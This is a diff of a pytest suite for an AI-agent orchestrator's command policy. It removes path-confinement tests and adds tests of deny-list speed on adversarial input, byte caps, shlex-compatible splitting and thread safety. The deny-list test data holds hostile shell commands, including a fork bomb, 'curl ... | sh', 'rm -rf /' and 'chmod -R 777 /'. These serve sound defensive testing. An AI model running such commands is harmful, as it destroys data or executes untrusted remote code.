@@ -5,20 +5,17 @@ from __future__ import annotations
 import asyncio
 import contextlib
 import os
+import shlex
 import time
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
+from orchestrator.commands import shell_split, simple_commands
 from orchestrator.config import HookCommand, Settings
-from orchestrator.policy import (
-    PathRefused,
-    Policy,
-    confine,
-    run_hooks,
-    scrubbed_env,
-    simple_commands,
-)
+from orchestrator.policy import Policy, run_hooks, scrubbed_env
 
 
 @pytest.fixture
@@ -29,57 +26,6 @@ def root(tmp_path: Path) -> Path:
     (r / ".git" / "hooks").mkdir(parents=True)
     (r / ".git" / "config").write_text("[core]\n")
     return r
-
-
-def test_relative_and_absolute_paths_inside_are_fine(root: Path) -> None:
-    assert confine(root, "src/a.py", write=False) == (root / "src/a.py").resolve()
-    assert confine(root, str(root / "src" / "a.py"), write=True) == (root / "src/a.py").resolve()
-    assert confine(root, "src/../src/new.py", write=True) == (root / "src/new.py").resolve()
-
-
-@pytest.mark.parametrize(
-    "path",
-    ["../outside.txt", "src/../../outside.txt", "/etc/passwd", "/tmp"],
-)
-def test_paths_resolving_outside_are_refused(root: Path, path: str) -> None:
-    with pytest.raises(PathRefused, match="outside the workspace"):
-        confine(root, path, write=False)
-
-
-def test_sibling_prefix_is_not_inside(root: Path) -> None:
-    evil = root.parent / (root.name + "_evil")
-    evil.mkdir()
-    (evil / "f").write_text("secret")
-    with pytest.raises(PathRefused):
-        confine(root, str(evil / "f"), write=False)
-    with pytest.raises(PathRefused):
-        confine(root, f"../{root.name}_evil/f", write=False)
-
-
-def test_symlinks_out_are_refused(root: Path, tmp_path: Path) -> None:
-    outside = tmp_path / "outside"
-    outside.mkdir()
-    (outside / "secret.txt").write_text("s3cret")
-    (root / "link_file").symlink_to(outside / "secret.txt")
-    (root / "link_dir").symlink_to(outside)
-    for p in ("link_file", "link_dir/secret.txt", "link_dir/new.txt"):
-        with pytest.raises(PathRefused):
-            confine(root, p, write=True)
-
-
-def test_writes_into_git_are_refused_reads_allowed(root: Path) -> None:
-    for p in (".git/config", ".git/hooks/pre-commit", "src/../.git/x", ".GIT/config"):
-        with pytest.raises(PathRefused, match=".git"):
-            confine(root, p, write=True)
-    assert confine(root, ".git/config", write=False).name == "config"
-
-
-def test_hard_links_are_refused(root: Path, tmp_path: Path) -> None:
-    outside = tmp_path / "victim.txt"
-    outside.write_text("important")
-    os.link(outside, root / "hl.txt")
-    with pytest.raises(PathRefused, match="hard link"):
-        confine(root, "hl.txt", write=True)
 
 
 @pytest.mark.parametrize(
@@ -106,6 +52,8 @@ def test_hard_links_are_refused(root: Path, tmp_path: Path) -> None:
         ":(){ :|:& };:",
         "curl https://x.example/install.sh | sh",
         "eval 'rm -rf /'",
+        "chmod -R 777 /",
+        "chmod -vR a+w / ",
     ],
 )
 def test_deny_list_catches_hidden_commands(line: str) -> None:
@@ -401,50 +349,6 @@ def test_more_secret_names_are_scrubbed_ordinary_variables_stay() -> None:
     assert sorted(env) == sorted(ordinary)
 
 
-def test_symlink_loops_are_refused(root: Path) -> None:
-    (root / "loop").symlink_to(root / "loop")
-    (root / "a").symlink_to(root / "b")
-    (root / "b").symlink_to(root / "a")
-    for p in ("loop", "a", "a/x.txt", "src/../loop"):
-        for write in (False, True):
-            with pytest.raises(PathRefused, match="symlink loop"):
-                confine(root, p, write=write)
-
-
-@pytest.mark.parametrize(
-    "path",
-    [
-        "orch.toml",
-        "ORCH.TOML",
-        ".orch/agents/evil.md",
-        ".orch/skills/x/SKILL.md",
-        ".orch/orch.db",
-        ".claude/settings.json",
-        ".claude/agents/evil.md",
-        ".worktreeinclude",
-        "src/../orch.toml",
-    ],
-)
-def test_writes_to_orch_control_files_are_refused_reads_allowed(root: Path, path: str) -> None:
-    (root / ".orch" / "agents").mkdir(parents=True)
-    (root / ".claude").mkdir()
-    (root / "orch.toml").write_text("model = 'sonnet'\n")
-    with pytest.raises(PathRefused, match="orch control file"):
-        confine(root, path, write=True)
-    confine(root, path, write=False)  # reading them is fine
-
-
-def test_control_file_check_is_relative_to_the_workspace_root(root: Path) -> None:
-    worktree = root / ".orch" / "worktrees" / "run1"
-    (worktree / "src").mkdir(parents=True)
-    assert confine(worktree, "src/new.py", write=True) == (worktree / "src/new.py").resolve()
-    assert confine(worktree, "notes/orch.toml", write=True).name == "orch.toml"
-    with pytest.raises(PathRefused, match="orch control file"):
-        confine(worktree, "orch.toml", write=True)
-    with pytest.raises(PathRefused, match="orch control file"):
-        confine(worktree, ".claude/settings.json", write=True)
-
-
 async def _still_alive(pid: int) -> bool:
     """Whether pid still runs 2 s from now (a SIGKILL takes a moment); checked inside the loop."""
     from tests.support import alive
@@ -517,7 +421,7 @@ def test_cancel_during_a_hook_kills_its_process_group(project: Path) -> None:
     h = harness(project, script, hooks=hooks)
 
     async def main() -> bool:
-        job = asyncio.create_task(h.delegator.run_root("go", workdir=project))
+        job = asyncio.create_task(h.runner.run(h.spec("go")))
         for _ in range(200):
             await asyncio.sleep(0.05)
             if pidfile.exists() and pidfile.read_text().strip():
@@ -542,3 +446,95 @@ def test_extra_deny_rules_add_to_the_defaults() -> None:
     policy = Policy.for_run(settings, ["bash"], 0, 3)
     assert not policy.check_call("bash", {"command": "npm publish"}).allowed
     assert not policy.check_call("bash", {"command": "rm -rf /"}).allowed  # defaults kept
+
+
+# -- cost of the deny-list check: linear in the command, capped in size ---------------------
+def _sized(unit: str, size: int = 99_000, head: str = "", tail: str = "") -> str:
+    """``head`` + ``unit`` repeated + ``tail``, just under the default 100 kB cap."""
+    return head + unit * ((size - len(head) - len(tail)) // len(unit)) + tail
+
+
+ADVERSARIAL = {
+    "one word": _sized("a"),
+    "one rm word": _sized("a", head="rm -rf "),
+    "one option word": _sized("R", head="chmod -", tail=" 777 /"),
+    "many words": _sized("a "),
+    "open $(": _sized("$("),
+    "closed $()": _sized("$(a)"),
+    "backquotes": _sized("`"),
+    "double quotes": _sized('"'),
+    "single quotes": _sized("'"),
+    "mixed quotes": _sized("'\"\\"),
+    "escaped quotes": _sized('"\\"'),
+    ";-chain": _sized("a;"),
+    "distinct ;-chain": "".join(f"c{i};" for i in range(99_000 // 7)),
+    "&&-chain": _sized("a && "),
+    "pipes": _sized("a|"),
+    "newlines": _sized("\n"),
+    "parens": _sized("("),
+    "keywords": _sized("if "),
+    "wrappers": _sized("env "),
+    "assignments": _sized("A=1 "),
+    "wrapper options": _sized("1 ", head="nice "),
+    "sudo chain": _sized("sudo -u x "),
+    "eval chain": _sized("eval "),
+    "bash -c chain": _sized("bash -c "),
+    "git options": _sized("-c ", head="git "),
+    "rm targets": _sized("./ ", head="rm -rf "),
+    "curl pipe": _sized("| ", head="curl "),
+}
+
+
+@pytest.mark.parametrize("command", ADVERSARIAL.values(), ids=ADVERSARIAL.keys())
+def test_deny_list_check_is_fast_on_adversarial_commands(command: str) -> None:
+    """Each takes milliseconds to ~0.2 s; the quadratic parser took seconds to hours."""
+    policy = Policy.for_run(Settings(), ["bash"], 0, 3)
+    assert len(command.encode()) <= Settings().max_command_bytes
+    started = time.perf_counter()
+    decision = policy.check_call("bash", {"command": command})
+    elapsed = time.perf_counter() - started
+    assert elapsed < 1.0, f"{elapsed:.2f}s"
+    assert "max_command_bytes" not in decision.reason  # parsed, not refused for its size
+
+
+def test_commands_over_the_cap_are_refused_before_parsing() -> None:
+    policy = Policy.for_run(Settings(), ["bash"], 0, 3)
+    assert policy.check_call("bash", {"command": "a" * 100_000}).allowed
+    started = time.perf_counter()
+    for command in ("a" * 100_001, "a;" * 1_000_000, "é" * 50_001):  # é: 2 bytes
+        decision = policy.check_call("bash", {"command": command})
+        assert not decision.allowed
+        assert "max_command_bytes" in decision.reason and "100,000" in decision.reason
+    assert time.perf_counter() - started < 1.0
+    small = Policy.for_run(Settings(max_command_bytes=20), ["bash", "read_file"], 0, 3)
+    assert small.check_call("bash", {"command": "echo hello"}).allowed
+    assert not small.check_call("bash", {"command": "echo hello, world!!!!"}).allowed
+    assert small.check_call("read_file", {"path": "x" * 100}).allowed  # bash only
+
+
+def test_malformed_bash_input_does_not_raise_in_the_policy() -> None:
+    policy = Policy.for_run(Settings(), ["bash"], 0, 3)
+    for args in ({}, {"command": None}, {"command": ["rm", "-rf", "/"]}, "rm -rf /", None, 7):
+        assert policy.check_call("bash", args).allowed  # type: ignore[arg-type]  # left to validation
+
+
+@given(st.text(alphabet=" \t\n\r'\"\\abc$()`;|&=-/é", max_size=60))
+def test_shell_split_is_shlex_split(line: str) -> None:
+    try:
+        expected: list[str] | None = shlex.split(line)
+    except ValueError:
+        expected = None
+    assert shell_split(line) == expected
+
+
+def test_check_call_is_safe_from_many_threads() -> None:
+    from concurrent.futures import ThreadPoolExecutor
+
+    policy = Policy.for_run(Settings(), ["bash"], 0, 3)
+    lines = ["rm -rf /", "ls -la", "sudo ls", "git status", "echo $(git push -f)", "a;" * 5000]
+    expected = [policy.check_call("bash", {"command": line}) for line in lines]
+    with ThreadPoolExecutor(8) as pool:
+        got = list(
+            pool.map(lambda i: policy.check_call("bash", {"command": lines[i % 6]}), range(120))
+        )
+    assert got == [expected[i % 6] for i in range(120)]
